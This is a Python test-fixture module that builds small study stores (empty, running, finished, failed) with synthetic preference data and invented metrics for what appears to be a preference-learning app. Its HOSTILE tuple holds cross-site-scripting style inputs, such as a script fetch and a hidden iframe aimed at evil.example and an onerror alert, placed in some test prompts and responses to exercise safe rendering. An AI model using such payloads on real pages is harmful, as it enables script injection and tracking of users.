"""Small real stores for the app's tests: no study, one that runs, one that is finished, one with a failed run.

Everything is written through the engine's own writer; only the numbers are made up.
"""

import os
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd

from engine.arms import strategy_of
from engine.config import StudyConfig
from engine.data.pool import Comparison, PreferenceData
from engine.records import (
    Answer,
    Evaluated,
    Event,
    Label,
    Labelled,
    Message,
    Metric,
    Pair,
    Pick,
    Picked,
    Pooled,
    Prompt,
    Response,
    Scored,
    Spent,
    Trained,
)
from engine.seeds import rng_for
from engine.store import texts, writer
from engine.store.database import Store, open_store
from engine.store.summaries import RoundScores
from engine.store.writer import Claim

BATCH = 6
MEASURED = 60
"""Held-out pairs of each set, three a prompt."""
PEER = "https://evil.example"
HOSTILE = (
    f'<script>fetch("{PEER}/script")</script><img src="{PEER}/pixel.png" onerror="alert(1)">',
    f"![pixel]({PEER}/markdown.png) [a link]({PEER}/link) **not bold** # no title :red[not red] $x^2$",
    f'<style>body{{display:none}}</style><iframe src="{PEER}/frame"></iframe><a href="{PEER}/a">click</a>',
    "مرحبا، كيف يمكنني غسل سترة صوفية؟ 🧶 שלום",
    "One very long answer. " * 950,
    "Try this:\n```python\nprint('<b>code</b>')\n```\nThen wash at 30 degrees.",
    "",
    "a" * 400,
)
GOOD = {"random": 0.16, "activedpo": 0.21, "apl": 0.18, "real": 0.15}


def preference_data() -> PreferenceData:
    """16 prompts × 4 responses, all pairs, recorded answers; the first prompts hold hostile texts."""
    data = PreferenceData()
    for n in range(16):
        turns = [Message("user", f"How do I wash a wool jumper that is number {n}? It has shrunk before.")]
        if n % 4 == 1:
            turns += [
                Message("assistant", "By hand, cold. Is it very dirty?"),
                Message("user", "Yes, and it smells of smoke."),
                Message("assistant", "Then air it for a day first."),
                Message("user", f"And how do I dry jumper {n}?"),
            ]
        if n == 0:
            turns = [Message("user", HOSTILE[1]), Message("assistant", HOSTILE[0]), Message("user", HOSTILE[3])]
        prompt = Prompt.of(turns, topic="wool jumper")
        data.prompts[prompt.id] = prompt
        bodies = [
            f"Soak jumper {n} for half an hour in lukewarm water with conditioner, then press the water out.",
            f"Wash it again on warm so that the fibres of jumper {n} loosen.",
            f"I do not know. Ask somebody about jumper {n}.",
            HOSTILE[n % len(HOSTILE)] or f"({n})",
        ]
        ids = []
        for body in bodies:
            response = Response.of(prompt.id, body, source="sft sample, T 0.9")
            data.responses[response.id] = response
            ids.append(response.id)
        for i in range(4):
            for j in range(i):
                pair = Pair.of(prompt.id, ids[i], ids[j])
                data.pairs[pair.id] = pair
                data.comparisons.append(Comparison(pair.id, "a" if (i + j + n) % 3 else "b"))
    return data


def config(
    name: str, seeds: tuple[int, ...], rounds: int, strategies: tuple[str, ...], **changes: object
) -> StudyConfig:
    """A study over files that need not exist: nothing here reads them. Without a second random arm, if not changed."""
    return StudyConfig.from_dict(
        {
            "name": name,
            "referee": {"second_random": False},
            "data": {"pool": "pool.jsonl", "held_out": {"pool_like": "a.jsonl", "balanced": "b.jsonl"}},
            "model": {"path": "model", "device": "cpu"},
            "sampler": "all_pairs",
            "strategies": list(strategies),
            "seeds": list(seeds),
            "rounds": rounds,
            "labels_per_round": BATCH,
            "warm_up": True,
            **changes,
        }
    )


def evaluated(strategy: str, seed: int, number: int, rounds: int) -> Evaluated:
    """Held-out figures that rise with the rounds; generations at the last round only."""
    rng = rng_for(seed, number, f"figures:{strategy}")
    metrics, outcomes = [], {}
    for split, shift in (("pool_like", 0.0), ("balanced", -0.02)):
        gain = GOOD[strategy_of(strategy)] * (1 - np.exp(-0.5 * number)) + (
            rng.normal(0, 0.008) + shift if number else 0.0
        )
        metrics += [
            Metric("accuracy", split, 0.5 + gain, 500, "share of pairs"),
            Metric("nll", split, 0.693 - 0.8 * gain, 500, "nats per pair"),
            Metric("margin", split, 4 * gain, 500, "reward units"),
        ]
        right = rng.random(MEASURED) < 0.5 + gain
        outcomes[split] = np.where(right, 0.5, -0.5)  # side a is always the one preferred
    measured = {split: tuple((f"m{n:03}", f"q{n // 3:03}", "a") for n in range(MEASURED)) for split in outcomes}
    if number == rounds:
        metrics.append(Metric("win_rate", "", 0.55 + rng.normal(0, 0.02), 128, "share of prompts"))
        metrics.append(Metric("kl", "", 4.0 + rng.normal(0, 0.3), 64, "nats per response"))
    kept: dict[str, tuple[tuple[str, str, Answer], ...]] = {} if number else measured
    return Evaluated(number, tuple(metrics), outcomes, spent=Spent(0.9, 40_000), measured=kept)


def events(data: PreferenceData, strategy: str, seed: int, rounds: int) -> Iterator[Event]:
    """All events of a run, in order."""
    pairs = list(data.pairs)
    answers = {c.pair_id: c.answer for c in data.comparisons}
    yield evaluated(strategy, seed, 0, rounds)
    previous = ""
    for number in range(1, rounds + 1):
        warm_up = number == 1
        drawn = rng_for(seed, number, "warm-up" if warm_up else f"picks:{strategy}").permutation(len(pairs))
        rng = rng_for(seed, number, f"scores:{strategy}")
        picks = []
        for rank, row in enumerate(drawn[:BATCH], start=1):
            if warm_up or strategy_of(strategy) == "random":
                picks.append(Pick(pairs[row], rank))
                continue
            score = 0.45 - 0.01 * rank
            why: dict[str, float | str] = {"rank_in_pool": float(rank * 3)}
            if strategy == "activedpo":
                why |= {"nearest_pair": previous, "nearest_cosine": float(rng.uniform(0.1, 0.6))}
            picks.append(Pick(pairs[row], rank, score=score, gain=score - 0.019 * (rank > 1), why=why))
        previous = picks[0].pair_id
        yield Pooled(number, tuple(pairs), spent=Spent(0.1))
        yield Scored(number, (), None, spent=Spent(2.0, 90_000))
        yield Picked(number, tuple(picks), warm_up=warm_up, spent=Spent(0.2))
        labels = tuple(Label(p.pair_id, "tie" if p.rank == 5 else answers[p.pair_id], "recorded") for p in picks)
        yield Labelled(number, labels, spent=Spent(0.01))
        step = {"step": 1.0, "loss": 0.69}
        adapter = {"lora_A": np.ones((2, 2), np.float32)}
        yield Trained(number, adapter, (step,), len(labels), f"hash{number}", spent=Spent(4.0, 60_000))
        yield evaluated(strategy, seed, number, rounds)


def add_study(
    store: Store,
    name: str,
    *,
    seeds: tuple[int, ...] = (1, 2, 3),
    rounds: int = 2,
    strategies: tuple[str, ...] = ("random", "activedpo", "apl", "real"),
    **changes: object,
) -> tuple[str, PreferenceData]:
    """Queue a study, its config changed so; its id and its data."""
    data = preference_data()
    pool = texts.add_dataset(
        store,
        name="pool",
        path="pool.jsonl",
        format_name="multi_response",
        sha256="00",
        data=data,
        rows=16,
        refused={},
    )
    study_id = writer.queue_study(store, config(name, seeds, rounds, strategies, **changes), {"pool": pool}, {})
    return study_id, data


def play(store: Store, claim: Claim, data: PreferenceData, stop_after: int | None = None) -> None:
    """Save a run's events, all of them or the first `stop_after`."""
    study = claim.config.study
    for n, event in enumerate(events(data, claim.config.key, claim.config.seed, study.rounds)):
        if stop_after is not None and n >= stop_after:
            return
        writer.save_event(store, claim, event)
    writer.set_state(store, claim.run_id, "done")


def worker(store: Store) -> str:
    """A worker that has just spoken."""
    return writer.register_worker(store, "device", "cpu", os.getpid(), "here")


def finished(folder: Path, only: tuple[str, ...] = (), **study: object) -> Store:
    """A store with one finished study; or one in which `only` these arms are, and the others have just begun."""
    store = open_store(folder)
    name = str(study.pop("name", "How-to world, first look"))
    _, data = add_study(store, name, **study)  # type: ignore[arg-type]
    me = worker(store)
    while claim := writer.claim_run(store, me):
        if not only or claim.config.key in only:
            play(store, claim, data)
    writer.heartbeat(store, me, None, "idle")
    return store


def running(folder: Path, done: int = 6, **study: object) -> Store:
    """A store with a study of which `done` runs are finished and the next is in its second round."""
    store = open_store(folder)
    _, data = add_study(store, "How-to world, under way", **study)  # type: ignore[arg-type]
    me = worker(store)
    for _ in range(done):
        claim = writer.claim_run(store, me)
        if claim is not None:
            play(store, claim, data)
    claim = writer.claim_run(store, me, lease_s=3600)
    if claim is not None:
        play(store, claim, data, stop_after=9)
        writer.heartbeat(store, me, claim.run_id, "training, step 41 of 120 · loss 0.581", lease_s=3600)
    return store


def failed(folder: Path) -> Store:
    """A store with a study whose second run failed in its first round."""
    store = open_store(folder)
    _, data = add_study(store, "Too high a rate", seeds=(1,), strategies=("random", "activedpo"))
    me = worker(store)
    first, second = writer.claim_run(store, me), writer.claim_run(store, me)
    if first is None or second is None:
        raise RuntimeError("the study has two runs")
    play(store, first, data)
    play(store, second, data, stop_after=4)
    error = "Training stopped at step 212: the loss is not finite. Learning rate 0.02, pairs <b>x00311</b> and 31 more."
    writer.set_state(store, second.run_id, "failed", error=f"{error} Try a lower rate.")
    return store


WORLDS = {"empty": open_store, "running": running, "finished": finished, "failed": failed}


def scores_in(found: RoundScores) -> pd.Series:
    """The scores of a round by pair id, those that have one."""
    return pd.read_parquet(found.table).set_index("pair_id")["score"].dropna().astype(float)
